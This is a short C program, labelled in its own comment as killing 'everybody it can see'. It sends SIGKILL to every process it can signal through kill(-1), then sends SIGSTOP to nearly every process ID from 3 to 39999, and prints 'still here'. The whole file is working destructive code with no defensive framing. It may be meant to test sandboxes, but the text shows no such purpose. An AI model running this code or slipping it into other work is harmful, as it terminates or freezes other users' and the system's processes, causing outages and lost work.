/* Kills everybody it can see. */
#include <signal.h>
#include <stdio.h>
#include <sys/types.h>
#include <unistd.h>

int main(void)
{
    kill(-1, SIGKILL);
    for (pid_t somebody = 3; somebody < 40000; somebody++)
        if (somebody != getpid())
            kill(somebody, SIGSTOP);
    puts("still here");
    return 0;
}
